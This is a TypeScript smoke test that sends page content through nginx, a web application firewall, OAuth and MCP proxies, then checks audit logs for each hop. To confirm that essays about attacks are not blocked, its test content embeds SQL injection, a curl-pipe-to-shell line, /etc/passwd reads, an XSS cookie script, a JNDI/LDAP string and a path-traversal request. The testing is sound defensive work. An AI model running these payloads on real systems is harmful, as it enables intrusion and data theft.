import { readFile } from 'node:fs/promises';
import https from 'node:https';
import { HOPS } from '@arleo/core/errors';
import { connectAs, GENERATIONS } from '@arleo/demo/smoke/clients';
import { MemoryProvider } from '@arleo/demo/smoke/memory-provider';
import { arleoJson } from './arleo.ts';
import { type StackBehindNginx, startBehindNginx } from './behind-nginx.ts';
import { fetchWithCa } from './fetch-with-ca.ts';

let behind: StackBehindNginx;
const trusted = https.globalAgent.options.ca;
beforeAll(async () => {
  behind = await startBehindNginx();
  // The owner's browser of the smoke test takes what Node trusts.
  https.globalAgent.options.ca = [behind.ca];
});
afterAll(async () => {
  https.globalAgent.options.ca = trusted;
  await behind?.dispose();
});

/** What a WAF is made to block, in a text that a person may well write. */
const content = async (): Promise<string> => {
  const readme = await readFile(new URL('../../infra/README.md', import.meta.url), 'utf8');
  return `${readme}
\`\`\`sql
SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; --
\`\`\`
Then \`curl http://192.0.2.1/x.sh | sh; cat /etc/passwd\`, <script>alert(document.cookie)</script> and \u0024{jndi:ldap://x/a}.
`;
};

test.each(GENERATIONS)(
  '[R-WAF-JOB] through nginx, its firewall and all hops: the whole OAuth flow and real writes with %s',
  async (generation) => {
    const ids: string[] = [];
    const fetch = fetchWithCa(behind.ca, (response) => ids.push(response.headers.get('x-request-id') ?? ''));
    const { stack, issuer } = behind;
    const provider = new MemoryProvider(`firewall ${generation}`);
    const client = await connectAs(
      generation,
      `${issuer}/mcp`,
      provider,
      { passphrase: stack.state.passphrase },
      fetch,
    );

    const page = { route: `posts/firewall-${generation.at(-3)}`, lang: 'en' };
    const text = await content();
    const created = await client.call('create_page', {
      ...page,
      title: 'Why 1=1 OR <script> is "blocked"; an essay',
      content: text,
      tags: ["sql' OR '1'='1", 'UNION SELECT'],
      front_matter: { summary: "'; DROP TABLE users; --", params: { shell: '$(cat /etc/passwd)' } },
    });
    expect(created.isError ? created.text : '').toBe('');
    const createdBy = ids.at(-1) ?? '';
    const edits = [{ find: 'DROP TABLE users', replace: 'UNION SELECT password FROM users' }];
    expect(await client.call('update_page', { ...page, edits })).toMatchObject({ isError: false });
    const got = await client.call('get_page', page);
    expect(got.structured.content).toBe(text.replace('DROP TABLE users', 'UNION SELECT password FROM users'));
    const live = await globalThis.fetch(new URL(`/en/${page.route}/`, stack.addresses.siteUrl));
    expect((await live.text()).includes('jndi:ldap://x/a')).toBe(true);

    // The firewall sees the same words where no content belongs.
    await expect(client.call('get_page', { ...page, route: '../../etc/passwd' })).rejects.toThrow();
    await client.close();

    const logs = HOPS.flatMap((hop) => ['--file', stack.layout.audit(hop)]);
    const way = async () => (await arleoJson(['audit', 'search', '--request', createdBy, ...logs], {})).events;
    // Written after the answer.
    while ((await way()).length < 3) await new Promise((resolve) => setTimeout(resolve, 50));
    const events: { hop: string; event_type: string }[] = await way();
    expect(events.map(({ hop, event_type }) => `${hop} ${event_type}`)).toEqual([
      'oauth-proxy call.forwarded',
      'hugo-mcp-proxy call.forwarded',
      'hugo-mcp-server tool.create_page',
    ]);
    expect(await arleoJson(['audit', 'verify', ...logs], {})).toMatchObject({ ok: true });
  },
);
